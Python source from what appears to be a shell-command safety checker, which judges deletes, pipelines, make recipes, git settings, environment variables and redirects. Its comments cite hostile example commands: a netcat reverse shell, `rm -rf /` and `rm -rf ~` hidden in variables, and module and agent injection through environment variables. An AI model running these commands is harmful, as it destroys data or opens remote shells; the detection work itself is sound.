                        self._deletes_swept_artefacts(names, argv, clause_feeds, frame)
                        or self._deletes_listed_output(names, argv, clause_feeds, frame)
                    )
                ):
                    continue  # what a sweep prints: `./…` paths, never an option, whether known or not
                if state == MATCH:
                    if rule_id in REGENERABLE and self._regenerates(names, argv, frame):
                        continue
                    if rule_id == _NETWORK_PAYLOAD and _probes_module_version(info, argv):
                        continue  # `perl -MIO::Socket::SSL -e 'print $IO::Socket::SSL::VERSION'`: no call
                    if (
                        rule_id in (TREE_DELETE, BULK_DELETE, GIT_CLEAN)
                        and not compiled.fed_by
                        and not clause_feeds
                        and (
                            self._deletes_output_only(names, argv, frame)
                            or (not self.copied and del_sweeps_artefacts(names, argv[1:], dialect))
                            or _deletes_made_temp(names, argv, dialect)
                        )
                    ):
                        continue
                    if rule_id == SYNC_DELETE and self._syncs_into_output(names, argv, frame):
                        continue
                    if rule_id == FIND_DELETE and (
                        (not self.copied and find_sweeps_artefacts(argv[1:]))
                        or self._finds_in_output_only(argv, frame)
                        or self._sweeps_output(argv, frame)
                    ):
                        continue
                    self._rule_finding(compiled.rule, argv, names, frame, detail)
                elif self._checks_syntax_only(names, argv):
                    continue  # `php -l "$f"`, `xargs -n1 php -l`: a run-time word is one more file it lints
                else:
                    rule = compiled.rule
                    self.event(
                        "dynamic-arguments",
                        frame,
                        f"`{shown_args(argv)}` has words only known at run time, so it may be a case "
                        f"of {rule.id} (which {rule.description})",
                        self._argv(argv, names),
                    )
        if args and self._words_may_matter(args, info, dialect):
            self._arguments(args, argv, info, frame, wrapper, looked_up=True)
        if feeds and dialect == "powershell" and not PIPED_PATH_WRITERS.isdisjoint(names):
            self._judge_piped_paths(names, argv, feeds, stdin, frame)
        if not _TEXT_INTO_FILES.isdisjoint(names):
            self._piped_into_files(next(n for n in names if n in _TEXT_INTO_FILES), argv, stdin, frame)
        if info.acts:
            self._acts(info, argv, frame, stdin, wrapped, inner_feeds)
        elif (self.written or self.copied) and ("/" in word or "\\" in word):
            self._check_runs_written(argv, frame)
        if spelled:
            self._git_spelled(names[0], argv, frame, stdin)

    def _words_may_matter(self, args: list[Arg], info: NameInfo, dialect: Dialect) -> bool:
        """Whether `_arguments` could find anything in `args`. The fast path's word screens cover every check
        it makes for words read before any `cd` (tests/test_guard_fast_path.py); remembered per words, they
        let a command seen before skip the word checks. Without the memo, or for words it does not keep,
        the checks run (computing the screens as well would only add to a first sight)."""
        p = self.p
        if p.memo_limit <= 0 or dialect == "cmd":
            return True  # the fast path never reads cmd's words: its screens are not proven for them
        if self.changed_directory():
            return True  # after a `cd` a relative source may lie outside: the screens assume it has not moved
        size = 0
        for a in args:
            size += len(a.raw)
            if dialect == "posix" and "\\" in a.raw:
                return True  # `\\\\host\\share`: a UNC path as Windows reads it (`bash_unc`)
        if size > WORDS_MEMO_TEXT:
            return True  # not remembered: `_arguments` searches the texts once, reusing the fast path's
        return p.screened_words(dialect, info, args, size)[0]

    def _fed_by_listing(
        self,
        candidates: list[list[Arg]],
        feed: Feed,
        frame: Frame,
        stdin: Stdin | None,
        feeds: tuple[Feed, ...],
    ) -> None:
        """`find ../site -name '*.html' | xargs sed -i …`: the words xargs reads are paths below the
        listing's starts (see `_listed`), and may be files of `.git` or `.hazina` when the listing reaches
        them (`listing_reaches_protected`); each command is judged again with its words standing there."""
        fed = [c for c in candidates if FED_WORDS in c and not only_touches(c)]
        if not fed:
            return
        listed = listing(feed)
        if listed is None:
            self._fed_unknown(fed, feed, frame, stdin, feeds)
            return
        lister = listed.argv[0].text
        places: list[tuple[Arg, str, list[list[Arg]]]] = []
        outside = list({s.raw: s for s in listed.starts if not plainly_inside(s)}.values())
        if outside:
            # Only where a command writes what it reads does the place matter (`xargs grep -n x` only reads).
            writers = [c for c in fed if self._writes_words(c, frame, FED_WORDS)]
            if writers:
                places += [(under(s), f"a path below {s.raw}", writers) for s in outside]
        for place in dict.fromkeys(listed.reaches_protected(self.root)):
            places.append((Arg(f"{place}/{{}}", f"{place}/{{}}"), f"a file in {place}", fed))
        if len(places) > _LISTED_PLACES_JUDGED:
            # Each place costs a judgement of its commands; past a few, they are judged with a place known
            # only at run time (a fail-closed block for a writer), as where a listing cannot be followed.
            self._fed_anywhere(
                list({id(c): c for *_, cs in places for c in cs}.values()), feed, frame, stdin, feeds
            )
            return
        for inside, what, commands in places:
            there = frame.wrapped(f"`{{}}` standing for {what}, which `{lister}` lists")
            for candidate in commands:
                self.command([inside if a == FED_WORDS else a for a in candidate], there, stdin, None, feeds)

    def _fed_unknown(
        self,
        fed: list[list[Arg]],
        feed: Feed,
        frame: Frame,
        stdin: Stdin | None,
        feeds: tuple[Feed, ...],
    ) -> None:
        """`cat list.txt | xargs sed -i …`: what a command other than a listing prints may name any file, so
        a command that writes the words xargs reads writes a place known only at run time, as `sed -i …
        $(cat list.txt)` does."""
        writers = [c for c in fed if self._writes_words(c, frame, FED_WORDS)]
        if writers:
            self._fed_anywhere(writers, feed, frame, stdin, feeds)

    def _fed_anywhere(
        self,
        commands: list[list[Arg]],
        feed: Feed,
        frame: Frame,
        stdin: Stdin | None,
        feeds: tuple[Feed, ...],
    ) -> None:
        """Judge `commands` with the words `feed` hands them standing for a place known only at run time."""
        produced = feed.producer()
        text = shown_args(produced[0]) if produced is not None else "…"
        unknown = Arg(DYN, f"$({text})")
        there = frame.wrapped(f"the words `{text}` prints")
        for candidate in commands:
            self.command([unknown if a == FED_WORDS else a for a in candidate], there, stdin, None, feeds)

    def _writes_words(self, candidate: list[Arg], frame: Frame, handed: Arg) -> bool:
        """May `candidate` write the file a listing hands it as `handed` (a writer's operand, an output
        option's value)? A reader's place does not matter (`xargs grep -n x`, `fd -x wc -l`)."""
        if DYN in candidate[0].text:
            return True
        info = self.p.word_info(candidate[0].text, frame.dialect, frame.aliases)
        return info.paths == "write" or handed in output_targets(info.names[-1], candidate[1:])

    def _git_spelled(self, name: str, argv: list[Arg], frame: Frame, stdin: Stdin | None) -> None:
        """git's command `NAME` runs the program `git-NAME` (where git has no such command of its own), and
        the program is that command, so each is also judged as the other: `git crypt unlock` as `git-crypt
        unlock`, where the rules name that program, and `git-filter-repo --invert-paths` or
        `/usr/lib/git-core/git-push origin` as `git filter-repo …`, `git push …`."""
        if frame.depth >= self.p.max_depth:
            return
        if name == "git":
            program = git_program(argv)
            if program is None or self.p.word_info(program, frame.dialect, frame.aliases).inert:
                return
            at = git_subcommand_at(argv)
            how = f"`git {argv[at].raw}` runs `{program}`{_GIT_SPELLED}"
            self.command([Arg(program, argv[at].raw), *argv[at + 1 :]], frame.wrapped(how), stdin)
        elif name[:4] == "git-" and len(name) > 4:
            sub = name[4:]
            how = f"`{argv[0].raw}` is `git {sub}`{_GIT_SPELLED}"
            self.command([Arg("git", "git"), Arg(sub, sub), *argv[1:]], frame.wrapped(how), stdin)

    def _git_settings(self, argv: list[Arg], frame: Frame) -> list[Arg]:
        """Check the command lines of `git -c core.pager=…`, `-c alias.x='!…'` (see `git_command_settings`)
        as the commands they are; the rules judge git's other words."""
        kept, lines, unknown = git_command_settings(argv[1:])
        if unknown is not None:
            # `git -c "$KV" status`: a key only known at run time may be `core.pager` or an alias
            self.event(
                "dynamic-script",
                frame,
                f"`git -c {unknown.raw}` gives git a setting only known at run time",
                self._argv(argv),
            )
        for key, line in lines:
            text = line.text
            if text.strip():
                if key == "core.pager" or key.startswith("pager."):
                    text = f"{{ {text}\n}} <&3"  # a pager reads what git prints: `sh` as one runs it
                self.script(text, "posix", frame.nested(f"`git -c {key}`"))
        return [argv[0], *kept]

    def _make_variable(
        self, argv: list[Arg], frame: Frame, stdin: Stdin | None, feeds: tuple[Feed, ...]
    ) -> bool:
        """`$(MAKE) -C docs html`, `$(Q)$(GO) test ./...`, `$(AT)rm -f x.o`: a make recipe line whose program
        is make's variable named for it (`_parse_posix.MAKE_VARIABLE`), or that starts with a variable hiding
        its echo. Judged as make runs it, the program the name says (`make -C docs html`), and as bash runs
        it, where the variable prints nothing and the words after it are the command; whether handled."""
        head = argv[0]
        raw = head.raw
        quiet = _MAKE_QUIET.match(raw)
        if quiet is not None:
            raw = raw[quiet.end() :]
            if not raw:  # `$(Q) dialyzer …`: the mark as a word of its own
                if len(argv) > 1:
                    self.command(argv[1:], frame, stdin, None, feeds)
                return True
            if _PLAIN_WORD.fullmatch(raw):
                self.command([Arg(raw, raw), *argv[1:]], frame, stdin, None, feeds)  # `$(Q)rm -f x.o`
                return True
        named = _MAKE_PROGRAM_WORD.fullmatch(raw)
        if named is None:
            return False
        raw = named[2]
        program = make_program(raw[2:-1])
        words = [Arg(program[0], raw), *(Arg(w, w) for w in program[1:])]
        how = f"`{raw}` = `{' '.join(program)}`"
        self.command([*words, *argv[1:]], frame.wrapped(how), stdin, None, feeds)
        spec = self.p.word_info(program[0], frame.dialect, frame.aliases).executor
        if spec is not None and len(argv) > 1 and argv[1].raw in spec.tool_words:
            return True  # `$(R) CMD check x.tar.gz`: R's own tool word, which bash would not run alone
        self._bash_reads(argv[1:], frame, stdin, feeds)
        return True

    def _bash_reads(
        self, rest: list[Arg], frame: Frame, stdin: Stdin | None, feeds: tuple[Feed, ...]
    ) -> None:
        """The command bash runs after a make variable in command position, which prints nothing there:
        `rest`, its first word without make's references (`$(CFLAGS) -o x` runs `-o x`, `$(BIN)/x y` runs
        `/x y`). A program named like an option (`$(CC) -o x x.c`: `-o`) or by a reserved word (`$(REBAR3) do
        eunit`: `do`), by make's automatic variables
        (`$(STRIP) $^`: `$^`, `$` for `$<`) or at the root (`$(MKDIR) $(DIST)/x`: `/x`) is no program anyone
        has; any other run-time part is judged so."""
        while rest:
            raw = rest[0].raw
            if raw[:1] == "-" or raw.startswith(_parse_posix.MAKE_AUTOMATIC_WORD) or raw in _RESERVED_AFTER:
                return
            bare = _MAKE_REFERENCE.sub("", raw)
            if bare == raw:
                break
            if bare:
                if _BASH_PLAIN.fullmatch(bare):
                    if bare[:1] == "/" and "/" not in bare[1:]:
                        return  # `$(MKDIR) $(DIST)/examples`: `/examples`, a program at the root
                    rest = [Arg(bare, bare), *rest[1:]]
                break
            rest = rest[1:]  # `$(CC) $(CFLAGS) -o x`: the word is gone
        if rest:
            self.command(rest, frame, stdin, None, feeds)

    def make_variable(self, name: str, frame: Frame) -> None:
        """`$(PYTHON)`, `$(AT)`: to bash, a program named NAME, which only a disk that ignores case finds
        (`python`, `at`), run with nothing and its output taken as words. What it would do counts; that it
        would wait for input or print words only known then does not: make's variable is what the line means
        (`_make_variable` judges the program it names)."""
        guessing = self.guessing
        self.guessing = True
        try:
            self.command([Arg(name, name)], frame, None)
        finally:
            self.guessing = guessing

    def _dynamic_name(
        self,
        argv: list[Arg],
        frame: Frame,
        stdin: Stdin | None,
        resolved_name: str | None,
        feeds: tuple[Feed, ...],
    ) -> None:
        head = argv[0]
        if resolved_name is not None and frame.depth < self.p.max_depth:
            # Unquoted `$x` splits on whitespace: `x="rm -rf /"; $x` runs rm with two arguments.
            value = fold_arg(resolved_name)
            words = split_words(value) if any(c.isspace() for c in value) else [Arg(value, head.raw)]
            self.command([*words, *argv[1:]], frame.wrapped(f"`{head.raw}` = `{value}`"), stdin, None, feeds)
        self.event(
            "dynamic-command",
            frame,
            f"the command name `{head.raw}` is only known at run time",
            self._argv(argv),
        )

    def _acts(
        self,
        info: NameInfo,
        argv: list[Arg],
        frame: Frame,
        stdin: Stdin | None,
        wrapped: Wrapped | None,
        inner_feeds: tuple[Feed, ...],
    ) -> None:
        """What a command that wraps, writes or runs other code does beyond its own rules."""
        names = info.names
        dialect = frame.dialect
        word = argv[0].text
        if wrapped is not None:
            name = names[0]
            inner = frame.wrapped(f"`{name}`")
            inner_stdin = stdin
            if wrapped.stdin == "terminal":
                inner_stdin = None  # `xargs -o sh`: the shell reads the terminal
            elif wrapped.stdin == "none":
                inner_stdin = Stdin("file")  # `xargs sh`: the shell reads /dev/null
            elsewhere = wrapped.reruns_self and self.root is not None
            moved: tuple[PathScope, str | None] | None = None
            if wrapped.directories or elsewhere:
                scope = self.scope(frame)
                moved = (scope, scope.cwd)
                for folder in wrapped.directories:
                    scope.change_directory(folder)  # `env -C DIR cmd`: as `cd DIR` before it
                if elsewhere:
                    # A workspace selector (`pnpm -r exec`, `yarn workspace app`) runs it in folders of the
                    # project of its choosing: which files its relative paths name is unknown.
                    scope.enter_workspace()
            # (a workspace selector's own words, `--filter './packages/**'`, select packages: no file)
            handed = argv[1:] if wrapped.reruns_self else [a for c in wrapped.candidates for a in c]
            self._hand_on(argv, handed)
            for candidate in wrapped.candidates:
                if wrapped.reruns_self:
                    candidate = [argv[0], *candidate]  # `yarn workspace app exec x`: `yarn exec x` there
                self.command(candidate, inner, inner_stdin, None, inner_feeds)
                first = candidate[0].text if candidate else ""
                if (
                    any(ch in first for ch in " \t;|&<>()$`\n")
                    and DYN not in first
                    and not (dialect != "posix" and _WINDOWS_PROGRAM_PATH.fullmatch(first))
                ):
                    # A "command name" with spaces or operators only makes sense to a shell (`watch 'a; b'`),
                    # unless it is a Windows program's path (`call "C:\\Program Files (x86)\\VS\\x.bat"`).
                    self.script(" ".join(a.text for a in candidate), "posix", frame.nested(f"`{name}`"))
            if stdin is not None and stdin.feed is not None:
                self._fed_by_listing(wrapped.candidates, stdin.feed, inner, inner_stdin, inner_feeds)
            for line in wrapped.shell_lines:
                if wrapped.windows_program and len(line.text) > WINDOWS_MAX_LINE:
                    raise TooLarge(
                        f"`{name}` is given a command line longer than Windows starts ({WINDOWS_MAX_LINE:,} "
                        "characters)"
                    )
                self._inline(line, "posix", frame.nested(f"`{name} -c`"), argv)
            if moved is not None:
                # The folder was the wrapped command's own: the line's next command runs where this one did
                # (`pnpm --filter web build && tsx x.ts`, `env -C build make && ./app`).
                moved[0].cwd = moved[1]
        if info.paths:
            self._paths(info, argv, frame)
        if info.writes_files:
            self._note_writes(info.writes_files, argv[1:])
        if (self.written or self.copied) and (
            info.shell or info.executor or info.special or "/" in word or "\\" in word
        ):
            self._check_runs_written(argv, frame)
        if info.special is not None:
            special_name, method = info.special
            if dialect != "posix" or special_name not in POWERSHELL_ONLY:
                getattr(self, method)(special_name, argv, frame, stdin)
            elif frame.depth < self.p.max_depth:
                # No POSIX program bears a cmdlet's name: a line written so (`Start-Process x "IEX …"`) is a
                # PowerShell line in the wrong box, judged as PowerShell would run it.
                line = " ".join(a.raw for a in argv)
                self.script(line, "powershell", frame.nested(f"`{argv[0].raw}` read as PowerShell"))
        if info.shell is not None:
            self._shell(names[0], info.shell, argv, frame, stdin)
        if info.executor is not None:
            self._executor(names[0], info.executor, argv, frame, stdin)

    def _unmarked(self, argv: list[Arg]) -> list[Arg]:
        """`@npm publish`, `-rm -rf ~`, `@- rm -rf ~`: a make recipe line copied with make's marks (echo off,
        ignore errors, run under -n), which make strips with the blanks among them before the shell runs the
        line: the words as make runs them (`argv` itself when its first word is no marked name: no program's
        name starts with them, and `--recursive CMD` is a wrapper's option)."""
        if not self.p.word_info(argv[0].text, "posix", _NO_ALIASES).inert:
            return argv
        skip = 0
        while skip < len(argv) - 1 and not argv[skip][0].lstrip(_MAKE_MARKS):
            skip += 1  # `@ - rm -rf ~`
        head = argv[skip]
        bare = head[0].lstrip(_MAKE_MARKS)
        marks = head[0][: len(head[0]) - len(bare)]
        head = Arg(bare, head.raw[len(marks) :] if head.raw.startswith(marks) else head.raw)
        return [head, *argv[skip + 1 :]]

    def _producers(self, feeds: tuple[Feed, ...], dialect: Dialect) -> list[list[CommandView]]:
        """Per feed, the commands feeding a command: nearest first, then upstream through filters."""
        out: list[list[CommandView]] = []
        for feed in feeds:
            chain: list[CommandView] = []
            current: Feed | None = feed
            for _ in range(FEED_FILTERS):
                if current is None:
                    break
                fresh = not current.computed
                got = current.producer()
                if got is None:
                    break
                argv, current = got
                if fresh:
                    self._spend(len(argv))  # the walk read the producer's words again for its feed
                if argv and dialect == "posix" and argv[0].text[:1] in _MAKE_MARKS:
                    argv = self._unmarked(argv)  # `-find . -name '*.pyc' | xargs rm`: make's `find`
                if not argv or argv[0].block or DYN in argv[0].text:
                    break  # a producer named at run time is not a simple command the rules can read
                known = self._producer_views.get(id(argv))
                if known is None:
                    producer = self.p.word_info(argv[0].text, dialect, {})
                    known = (argv, CommandView(producer.names, argv, dialect, producer.syntax))
                    self._producer_views[id(argv)] = known  # the words kept alive with their id
                view = known[1]
                chain.append(view)
                if self.p.pass_through.isdisjoint(view.names):
                    break
            else:
                if current is not None:  # more filters upstream than are followed: a producer unseen
                    chain.append(CommandView.cut_off(dialect))
            if chain:
                out.append(chain)
        return out

    def assignment(self, name: str, value: Arg, frame: Frame) -> None:
        if name == "DESTDIR":
            self.staged = True
        if value.text and name.casefold() == "psexecutionpolicypreference":
            # PowerShell's execution policy for this process (and the PowerShell it starts): the variable is
            # where `Set-ExecutionPolicy -Scope Process` keeps it, so setting it is running that.
            words = [Arg(w, w) for w in ("Set-ExecutionPolicy", "-Scope", "Process")]
            self.command([*words, value], frame.nested(f"`{name}=`"), None)
        elif name.upper().startswith("GIT_CONFIG"):
            self._git_config(name.upper(), value, frame)
        elif self.p.command_valued.fullmatch(name):
            # Programs run these values as commands (`GIT_PAGER='rm -rf ~' git log`).
            self._inline(value, "posix", frame.nested(f"`{name}=`"), [Arg(f"{name}={value.text}", value.raw)])
        elif name in _MODULE_OPTIONS and value.text:
            # `NODE_OPTIONS="--require /tmp/x.js"`: every program of that runtime loads the module first.
            argv = [Arg(f"{name}={value.text}", value.raw)]
            modules = loaded_modules(value.text, _MODULE_OPTIONS[name])
            self._spend(PIECE_WORK * len(modules))  # each is judged as a program run from where it is
            for module in modules:
                if DYN in module:
                    self.event(
                        "dynamic-script",
                        frame,
                        f"`{name}={shown(value.raw)}` loads a module only known at run time",
                        [argv[0].text],
                    )
                else:
                    self._outside_code(module, argv, (name,), frame)
        elif value.text and self.p.package_sources.fullmatch(name):
            setting = f"{name}={value.text}".lower()
            if setting not in self.p.package_source_defaults:
                self.event(
                    "package-source-variable",
                    frame,
                    f"`{name}={shown(value.raw)}` is set for the commands after it",
                    [f"{name}={value.raw}"],
                )
        elif value.text and self.p.search_path.fullmatch(name):
            self._search_path(name, value, frame)
        elif value.text and DYN not in value.text and self.p.program_variables.fullmatch(name):
            # `CC=/tmp/cc make`: the build tool runs the value in place of its own compiler or wrapper.
            self._inline(value, "posix", frame.nested(f"`{name}=`"), [Arg(f"{name}={value.text}", value.raw)])
        elif value.text and DYN not in value.text and name.upper() in self.p.options_variables:
            # `JAVA_OPTS=-javaagent:/tmp/x.jar`: the tool reads the value as options given to it.
            program = self.p.options_variables[name.upper()]
            words = " ".join(shlex.quote(w) for w in value.text.split())
            self._spend(PIECE_WORK)
            self.script(f"{program} {words}", "posix", frame.nested(f"`{name}=`"))
        elif value.text and DYN not in value.text and self.p.connection_variables.fullmatch(name):
            # `DATABASE_URL=postgres://u:pw@db.example.com/app alembic upgrade head`: the program connects to
            # the value, judged as a word on its command line (a database on this machine is none).
            host = name.upper().endswith(("HOST", "HOSTNAME", "SERVER"))
            words = [Arg(name, name), *([Arg("--host", "--host")] if host else []), value]
            self._spend(PIECE_WORK)
            self.command(words, frame.nested(f"`{name}=`"), None)
        elif value.text and self.p.code_loading.fullmatch(name):
            self.event(
                "dynamic-script",
                frame,
                f"`{name}={shown(value.raw)}` makes programs load code the policy cannot read",
                [f"{name}={value.raw}"],
            )
        elif value.text and self.p.credential_variables.fullmatch(name):
            self.event(
                "credential-variable",
                frame,
                f"`{name}={shown(value.raw)}` points later commands at a credential",
                [f"{name}={value.raw}"],
            )
        elif self.p.code_files is not None and _names_code_file(value.text, self.p.code_files):
            # `MCP_TOOL_HANDLER_OVERRIDE=/var/tmp/x.so`: a program, library or script handed to whatever
            # reads the variable is judged where it lies, as one handed on a command line is.
            self._outside_code(value.text, [Arg(f"{name}={value.text}", value.raw)], (name,), frame)

    def _git_config(self, name: str, value: Arg, frame: Frame) -> None:
        """`GIT_CONFIG_PARAMETERS="'core.pager'='...'"`, `GIT_CONFIG_KEY_0=core.pager`: settings git reads as
        it reads `git -c`, on either backend (keys are checked apart from values: any value of a risky key
        counts). `GIT_CONFIG_GLOBAL=FILE` (or `_SYSTEM`): settings from a file the policy does not read,
        fine only when it is empty (`/dev/null`)."""
        if name in _GIT_CONFIG_FILES:
            if value.text not in _EMPTY_FILES:
                self.event(
                    "dynamic-script",
                    frame,
                    f"`{name}={shown(value.raw)}` has git read settings, which may run programs, from a file",
                    [f"{name}={value.raw}"],
                )
            return
        if name != "GIT_CONFIG_PARAMETERS" and not name.startswith(("GIT_CONFIG_KEY_", "GIT_CONFIG_VALUE_")):
            return
        if DYN in value.text:
            if name.startswith("GIT_CONFIG_VALUE_"):
                return  # a value known only at run time, for a key judged on its own
            self.event(
                "dynamic-script",
                frame,
                f"`{name}={shown(value.raw)}` gives git a setting only known at run time",
                [f"{name}={value.raw}"],
            )
            return
        # Read as `git config` words, where every program-valued key counts whatever its value: the pieces
        # of a key and its value come apart here (`'core.pager'='rm -rf x'`), unlike `git -c`. A value word
        # follows, as git sets what it reads here: never the read `git config core.pager`.
        line = " ".join(shlex.quote(w) for w in value.text.replace("'", "").split() or [""])
        self.script(f"git config {line} value", "posix", frame.nested(f"`{name}`"))

    def _search_path(self, name: str, value: Arg, frame: Frame) -> None:
        """`PATH=/tmp:$PATH make`: the folders put before the existing value (all of them when it is replaced)
        are where programs find code first; each is judged as a program run from there would be."""
        windows = frame.dialect != "posix"
        text = _search_path_text(name, value, frame.dialect)
        entries = text.split(";") if windows else _PATH_SEPARATOR.split(text)
        self._spend(PIECE_WORK * len(entries))
        scope = self.scope(frame)
        for entry in entries:
            if entry == OWN_VALUE:
                return  # the existing value (`$PATH`, `%PATH%`): what follows it shadows nothing
            home = spelled(Arg(DYN, entry)) if "$" in entry or "%" in entry else None
            if home is not None and home != SCRIPT_ITSELF:
                entry = home  # `$HOME/Downloads`, `%USERPROFILE%\x`: run-time words, but a known place
            if (
                DYN in entry
                or OWN_VALUE in entry
                or "$" in entry
                or "`" in entry
                or (windows and "%" in entry)
            ):
                continue  # a folder only known at run time is the environment's own choice
            if not entry or (windows and len(entry) == 2 and entry[1] == ":"):
                continue
            verdict = scope.judge_program(Arg(entry.rstrip("/\\") or entry, entry))
            if verdict is not None:
                self.event(
                    "outside-program",
                    frame,
                    f"`{name}={shown(value.raw)}` makes programs look for code in `{entry}` first: "
                    f"{verdict.detail}",
                    [f"{name}={value.raw}"],
                )
                return

    def in_place_edit(self, target: Arg, frame: Frame) -> None:
        self.edited.add(path_key(target.text))

    def loop_copy(self, copy: int, nodes: int = 0) -> None:
        if copy < 0:
            self.loops.pop()
        elif copy == 0:
            self.loops.append((frozenset(self.written), False))
        else:
            self.loops[-1] = (self.loops[-1][0], True)
            self._spend(nodes)  # the walk reads the body again: a loop of many words costs as many bodies

    def folder(self, path: str, frame: Frame) -> bool:
        if self.root is None:
            return False
        relative = self.scope(frame).replaceable_place(Arg(path, path), whole=True)
        if relative is None:
            return False
        if self._files is None:
            self._files = ReplaceableFiles(self.root)
        self._spend(DISK_LOOKUP_WORK)
        return self._files.folder(relative)

    def _rewritten_by_loop(self, key: str) -> bool:
        """Whether a write to `key` repeats one an earlier copy of an enclosing loop made (`for s in a b; do
        x > out; done`): the file then holds only that copy's output, nothing from before the loop."""
        return any(later and key not in before for before, later in self.loops)

    def redirect(
        self,
        op: str,
        target: Arg,
        frame: Frame,
        empty: bool = False,
        writer: list[Arg] | None = None,
        stdin: Stdin | None = None,
        output: Feed | None = None,
    ) -> None:
        self._spend(REDIRECT_WORK)
        base = op.lstrip("0123456789")
        if not target.text and ">" in base and not base.endswith("&"):
            return  # `> $@` where the line has no positional parameters, `> ""`: the shell opens no file
        if target.raw[:2] == ">(" and ">" in base and target.raw[-1:] == ")":
            # `exec > >(tee -a build/ci.log) 2>&1`: a pipe to commands judged on their own, not a file; what
            # is written into it without end still fills the disk through them (`yes > >(tee f)`).
            if (writer is not None or output is not None) and op[: len(op) - len(base)] in ("", "1", "&"):
                self._fills_disk(writer, stdin, output, frame, f"{op} {target.raw}")
            return
        if DYN in target.text and one_name_pattern(target):
            # `> "dist/$(basename "$f").sha256"`: the pattern `dist/*.sha256` (see `one_name_pattern`)
            pattern = target.text.replace(DYN, "*")
            target = Arg(pattern, pattern)
        names_file = ">" in base and DYN not in target.text and not base.endswith("&")
        if base == ">>" and names_file:
            # The same append again (`make >> log >> log`, a loop's later copy): judged once. Appending
            # loses nothing, so a repeat can add no finding the first did not.
            key = (
                target.text, target.raw, frame.dialect, frame.via, self.scope(frame).cwd,
                None if writer is None else tuple(a.text for a in writer),
            )  # fmt: skip
            if self._appends is None:
                self._appends = {key}
            elif key in self._appends:
                return
            else:
                self._appends.add(key)
        if (
            names_file
            and (writer is not None or output is not None)
            and op[: len(op) - len(base)] in ("", "1", "&")
            and not _device(target.text)
        ):
            self._fills_disk(writer, stdin, output, frame, f"{op} {target.raw}")
        before = len(self.seen)  # the commands of a script written here run later, not before the write
        if names_file:
            key = path_key(target.text)
            # A second write or an append leaves in the file text other than the one checked before.
            first_whole = base in (">", ">|") and key not in self.written
            self.known_scripts.pop(key, None)
            if writer is not None:
                self._written_script(target, writer, frame, key if first_whole else None, stdin)
            # Written twice in one line (`cargo test > out.txt || echo failed > out.txt`), the second write
            # loses what the first left there: only this line's output when the file held nothing to lose
            # before the line, which `_replaceable` judges; a file another command named (`mv app.py
            # out.txt`) is not spared there.
            self.written.add(key)
        # Decided on first need (it may read the disk); a statement that writes nothing only empties the file.
        spared: bool | None = False if empty else None
        dialect = frame.dialect
        for rule, clause, allow in self.index.redirects:
            if dialect not in clause.shells or base not in clause.operators:
                continue
            text = target.text
            if base.endswith("&") and (text.isdigit() or text == "-"):
                continue  # descriptor duplication (`>&2`), not a file
            if allow.match(text) or allow.match(target.raw):
                continue
            if is_step_file(target.raw):
                continue  # `> "$GITHUB_OUTPUT"`: the runner's file for a step's outputs, not the project's
            shown = f"{op} {target.raw}"
            if DYN in text and base in (">", ">|") and self._packs(writer, output, frame):
                continue  # `git archive HEAD > "$NAME.zip"`: an archive named at run time (below)
            if DYN in text:
                self.event(
                    "dynamic-arguments",
                    frame,
                    f"`{shown}` writes to a file named only at run time, so it may be a case of {rule.id}",
                    [op, target.raw],
                )
            else:
                if rule.id in REGENERABLE:
                    if spared is None:
                        spared = self._replaceable(target, frame, before, written=False)
                    if spared:
                        continue  # generated output into a file that holds nothing to lose
                self._add(rule, [op, text], f"`{shown}`{frame.where()} {rule.description}")
        arg_rules = self.index.arguments.get(dialect)
        screen = self.index.argument_screen.get(dialect)
        spelled = f"{target.text}\n{target.raw}" if arg_rules else ""
        if arg_rules and (screen is None or screen.search(spelled)):
            self._spend_matching(target.text, target.raw)
            writes = ">" in base
            for rule, pattern, own in arg_rules:
                if writes and rule.category == "env":
                    continue  # what a file holds is read by a reader; writing it is judged as a write, below
                if own is not None and own.search(spelled) is None:
                    continue
                if pattern.match(target.text) or pattern.match(target.raw):
                    self._add(
                        rule, [op, target.text], f"`{op} {target.raw}`{frame.where()} {rule.description}"
                    )
        if _locators.screen(target.text):  # once for every locator rule: most targets name no machine
            for rule, pattern, _ in self.p.locators[dialect]:
                if pattern.match(target.text):
                    self._add(
                        rule, [op, target.text], f"`{op} {target.raw}`{frame.where()} {rule.description}"
                    )
        if ">" in base and not (base.endswith("&") and (target.text.isdigit() or target.text == "-")):
            if (
                DYN in target.text
                and base in (">", ">|")
                and not in_home(target.raw)
                and self._packs(writer, output, frame)
            ):
                # The archive `git archive` or a compressor writes, named at run time, is judged by its folder
                # as a packer's archive is (`| gzip > "dist/$NAME.tgz"`); a name all run time is left alone.
                folder = literal_folder(target)
                if folder is None:
                    return
                target = folder
            self._judge_write(self.scope(frame), target, frame, [op, target.raw])
        elif (
            "<" in base and maybe_environ(target.text) and self.scope(frame).reads_process_environment(target)
        ):
            self.event("proc-environ", frame, f"`{op} {target.raw}` may read a process environment", [op])

    def _packs(self, writer: list[Arg] | None, output: Feed | None, frame: Frame) -> bool:
        """Does the command `writer`, or the last of the pipeline `output`, print an archive: `git archive`
        without `-o`, or a compressor compressing (`gzip -9`, `xz -T0`; not `-d`, `-t` or `-l`)?"""
        if writer is None and output is not None:
            produced = output.producer()
            writer = produced[0] if produced is not None else None
        if not writer or DYN in writer[0].text:
            return False
        name = self.p.word_info(writer[0].text, frame.dialect, frame.aliases).names[0]
        if name == "git":
            at = git_subcommand_at(writer)
            return bool(at) and writer[at].text == "archive" and not output_targets("git", writer[1:])
        return name in _STREAM_PACKERS and not any(
            (a.text[:1] == "-" and a.text[1:2] != "-" and _UNPACKING.intersection(a.text[1:]))
            or a.text in ("--decompress", "--uncompress", "--test", "--list")
            for a in writer[1:]
        )

    def _fills_disk(
        self, writer: list[Arg] | None, stdin: Stdin | None, output: Feed | None, frame: Frame, into: str
    ) -> None:
        """`cat /dev/zero > f`, `yes | gzip > f`, `… | tee f`: an output that never ends, written into a
        file, grows it until the disk is full. `writer` and its `stdin`, or a pipeline's last stage
        `output`, write `into` the file."""
        source = endless_output(writer, stdin) if writer is not None else endless_feed(output)
        if source is not None:
            self.event(
                "disk-fill",
                frame,
                f"`{into}`{frame.where()} writes what `{source}` gives, which never ends, into a file",
                [into],
            )

    def _written_script(
        self,
        target: Arg,
        writer: list[Arg],
        frame: Frame,
        whole: str | None = None,
        stdin: Stdin | None = None,
    ) -> None:
        """Text written into a script (`echo 'nc -e /bin/sh h 4444' > x.sh`, a file starting `#!`) is
        checked as that script: running the file later runs it, where the policy only sees its name.
        `whole`: the file's key when this write is the whole of what the line puts in it, and `stdin` the
        writer's input (`cat > x.py <<'EOF'`): see `known_scripts`."""
